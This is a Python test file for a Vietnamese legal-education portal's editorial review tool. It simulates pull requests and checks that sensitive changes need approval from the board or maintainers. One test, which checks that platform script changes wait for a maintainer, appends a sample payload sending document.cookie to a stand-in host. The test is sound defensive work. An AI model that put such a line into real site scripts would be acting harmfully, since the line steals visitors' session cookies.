"""Pull requests the board must see, acted out as on a forge: a bare origin and three clones.

The board publishes main to the origin; an editor clones it, changes a branch and pushes
it; CI clones the origin, checks the branch out and runs the review against origin/main,
as the "Duyệt thay đổi" workflow does. Each kind of change the issue lists must be
flagged for the board or block the merge.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest
from editorial_repo import PortalRepo
from git import Repo

from pbgdpl.cli import main

from conftest import write

EDITOR = "laocai-stp-lucmai"
COLLEAGUE = "laocai-stp-hoangvu"
BOARD_MEMBER = "bbt-tranthu"
MAINTAINER = "kythuat-lamphong"
NEWS = "agencies/lao-cai/tin-tuc/dua-phap-luat-den-phien-cho-vung-cao.md"
AGENCY = "agencies/lao-cai/agency.yml"
LAW = "agencies/lao-cai/van-ban-moi/quyet-dinh-ve-hoa-giai-o-co-so.md"
LAW_TEXT = """\
---
title: Quyết định ban hành Quy chế hòa giải ở cơ sở trên địa bàn tỉnh
so_ky_hieu: "12/2026/QĐ-UBND"
loai_van_ban: Quyết định
co_quan_ban_hanh: Ủy ban nhân dân tỉnh Lào Cai
nguoi_ky: Trần Văn Hải
chuc_danh: Phó Chủ tịch
ngay_ban_hanh: 2026-10-05
ngay_hieu_luc: 2026-10-20
linh_vuc: [Hòa giải ở cơ sở]
trich_yeu: Ban hành Quy chế hòa giải ở cơ sở trên địa bàn tỉnh Lào Cai
huong_dan: ["35/2013/QH13"]
---

Quy chế quy định về tổ hòa giải và hòa giải viên ở thôn, tổ dân phố.
"""


class Forge:
    """A bare origin with main published by the board, and clones for an editor and CI."""

    def __init__(self, root: Path, delegated: bool = False) -> None:
        board = PortalRepo(root / "board")
        # Roles of the base branch: a named board member and maintainer, two Lào Cai editors.
        board.edit(
            "content/portal.yml",
            "editorial_board: [pbgdpl-bbt/thuong-truc]",
            f"editorial_board: [pbgdpl-bbt/thuong-truc, {BOARD_MEMBER}]",
        )
        board.edit(
            "content/portal.yml",
            "maintainers: [pbgdpl-bbt/ky-thuat]",
            f"maintainers: [pbgdpl-bbt/ky-thuat, {MAINTAINER}]",
        )
        board.edit(AGENCY, f"editors: [{EDITOR}]", f"editors: [{EDITOR}, {COLLEAGUE}]")
        if delegated:
            board.edit("content/portal.yml", "delegated_review: []", "delegated_review: [lao-cai]")
        assert main(["--root", str(board.root), "codeowners"]) == 0
        board.commit("Vai trò biên tập", dt.datetime(2026, 11, 1, 9, 0))
        self.origin = Repo.init(root / "origin.git", bare=True, initial_branch="main")
        board.repo.create_remote("origin", self.origin.working_dir).push("main")
        self.editor = Repo.clone_from(self.origin.working_dir, root / "editor")
        self.root = root

    def pull_request(self, branch: str, change: Callable[[Path], None]) -> Path:
        """Push the editor's `change` on `branch`; return CI's checkout of it."""
        self.editor.git.checkout("-b", branch, "origin/main")
        change(Path(str(self.editor.working_dir)))
        self.editor.git.add(A=True)
        self.editor.git.commit(
            "-m", "Đề nghị thay đổi", env={"GIT_AUTHOR_NAME": EDITOR, "GIT_COMMITTER_NAME": EDITOR}
        )
        self.editor.remote("origin").push(branch)
        ci = Repo.clone_from(self.origin.working_dir, self.root / f"ci-{branch}")
        ci.git.checkout(branch)
        return Path(str(ci.working_dir))


def edit(root: Path, path: str, old: str, new: str) -> None:
    text = (root / path).read_text("utf-8")
    assert text.count(old) == 1, (path, old)
    (root / path).write_text(text.replace(old, new), "utf-8")


@pytest.fixture
def forge(tmp_path: Path) -> Forge:
    return Forge(tmp_path)


def review(run_cli, ci: Path, *approvals: str, author: str = EDITOR) -> tuple[int, str]:
    extra = [arg for login in approvals for arg in ("--approved-by", login)]
    status, out, _ = run_cli(ci, "review", "origin/main", "HEAD", "--author", author, *extra)
    return status, out


def decisions(report: str) -> str:
    return report.split("### Cần quyết định")[1].split("\n\n###")[0]


def test_an_unpublish_through_draft_blocks_the_merge(forge: Forge, run_cli) -> None:
    ci = forge.pull_request(
        "go-bai", lambda r: edit(r, NEWS, "date: 2026-10-19", "date: 2026-10-19\ndraft: true")
    )
    status, report = review(run_cli, ci)
    assert status == 1
    assert "Kết luận: chưa thể hợp nhất, còn 1 lỗi phải sửa." in report
    assert "[unpublished]" in report and "bỏ thay đổi này" in report
    assert f"| Ban Biên tập | `{NEWS}` | Gỡ bài đã đăng" in decisions(report)


def test_a_settings_change_shows_key_by_key_for_the_board(forge: Forge, run_cli) -> None:
    ci = forge.pull_request(
        "cai-dat", lambda r: edit(r, "content/portal.yml", "tin-tuc: 30", "tin-tuc: 3650")
    )
    status, report = review(run_cli, ci)
    assert status == 0
    assert "Kết luận: không có lỗi; chỉ hợp nhất khi Ban Biên tập duyệt" in report
    assert "Thay đổi cài đặt: stale\\_after\\_days.tin-tuc." in decisions(report)
    assert "(`stale_after_days.tin-tuc`) | 30 | 3650 |" in report
    # The editor cannot approve a settings change, not even with a colleague's approval.
    status, report = review(run_cli, ci, COLLEAGUE)
    assert status == 1
    assert "chưa thể hợp nhất cho đến khi Ban Biên tập duyệt" in report
    assert review(run_cli, ci, BOARD_MEMBER)[0] == 0


def test_a_rights_change_inside_ones_own_agency_needs_the_board(forge: Forge, run_cli) -> None:
    ci = forge.pull_request(
        "them-nguoi",
        lambda r: edit(r, AGENCY, f"{COLLEAGUE}]", f"{COLLEAGUE}, laocai-nguoi-moi]"),
    )
    _, report = review(run_cli, ci)
    assert "Thay đổi quyền \\(Biên tập viên\\): thêm laocai-nguoi-moi." in decisions(report)
    assert review(run_cli, ci, COLLEAGUE)[0] == 1
    assert review(run_cli, ci, BOARD_MEMBER)[0] == 0


def test_a_platform_change_waits_for_a_maintainer(forge: Forge, run_cli) -> None:
    script = "theme/assets/pbgdpl/offline.js"
    leak = "\nfetch('https://thu-thap.example/?c=' + document.cookie);\n"
    ci = forge.pull_request(
        "giao-dien",
        lambda r: (r / script).write_text((r / script).read_text("utf-8") + leak, "utf-8"),
    )
    status, report = review(run_cli, ci)
    assert status == 0  # no error: the approvals decide, as the verdict says
    assert "Kết luận: chưa thể hợp nhất cho đến khi nhóm kỹ thuật duyệt" in report
    assert f"| Nhóm kỹ thuật | `{script}` |" in decisions(report)
    assert review(run_cli, ci, BOARD_MEMBER)[0] == 1
    assert review(run_cli, ci, MAINTAINER)[0] == 0


def test_a_new_legal_document_shows_every_fact_to_check(forge: Forge, run_cli) -> None:
    ci = forge.pull_request("van-ban", lambda r: write(r / LAW, LAW_TEXT))
    status, report = review(run_cli, ci)
    assert status == 0, report
    for fact in (
        "12/2026/QĐ-UBND",
        "Quyết định",
        "Ủy ban nhân dân tỉnh Lào Cai",
        "Trần Văn Hải",
        "Phó Chủ tịch",
        "05/10/2026",
        "20/10/2026",
        "Tình trạng hiệu lực",
        "35/2013/QH13",
    ):
        assert fact in report, fact


def test_an_approval_by_a_non_board_owner_is_not_enough(forge: Forge, run_cli) -> None:
    ci = forge.pull_request(
        "sua-tin",
        lambda r: edit(r, NEWS, "Sáng Chủ nhật ngày 18/10/2026", "Sáng Chủ nhật 18/10/2026"),
    )
    # Lào Cai's review is not delegated: its editors own nothing in CODEOWNERS.
    owners = (ci / ".github/CODEOWNERS").read_text("utf-8")
    (line,) = [x for x in owners.splitlines() if x.startswith("/agencies/lao-cai/ ")]
    assert EDITOR not in line and COLLEAGUE not in line and "@pbgdpl-bbt/thuong-truc" in line
    status, report = review(run_cli, ci, COLLEAGUE)
    assert status == 1
    assert "chưa thể hợp nhất cho đến khi Ban Biên tập duyệt" in report
    assert f"| `{NEWS}` | Ban Biên tập |" in report
    # No new change note: the board sees that the page keeps its "last updated".
    assert "Sửa nhỏ: không có ghi chú thay đổi mới" in report
    # The author's own approval never counts; the board's does.
    assert review(run_cli, ci, EDITOR)[0] == 1
    assert review(run_cli, ci, BOARD_MEMBER)[0] == 0
    assert review(run_cli, ci, "pbgdpl-bbt/thuong-truc")[0] == 0


def test_where_the_board_delegated_review_an_agency_editor_approves_ordinary_items(
    tmp_path: Path, run_cli
) -> None:
    forge = Forge(tmp_path, delegated=True)

    def major_change(root: Path) -> None:
        edit(root, NEWS, "Sáng Chủ nhật ngày 18/10/2026", "Sáng Chủ nhật 18/10/2026")
        edit(root, NEWS, "date: 2026-10-19", "date: 2026-10-19\nghi_chu_thay_doi: Bổ sung số liệu")

    ci = forge.pull_request("sua-tin", major_change)
    owners = (ci / ".github/CODEOWNERS").read_text("utf-8")
    (line,) = [x for x in owners.splitlines() if x.startswith("/agencies/lao-cai/ ")]
    assert f"@{COLLEAGUE}" in line
    status, report = review(run_cli, ci, COLLEAGUE)
    assert status == 0
    assert "Thay đổi lớn, ghi chú công khai: “Bổ sung số liệu”" in report
    # The agency's roles file stays the board's, delegation or not.
    ci = forge.pull_request(
        "them-nguoi", lambda r: edit(r, AGENCY, f"{COLLEAGUE}]", f"{COLLEAGUE}, laocai-nguoi-moi]")
    )
    status, report = review(run_cli, ci, COLLEAGUE)
    assert status == 1 and f"| `{AGENCY}` | Ban Biên tập |" in report
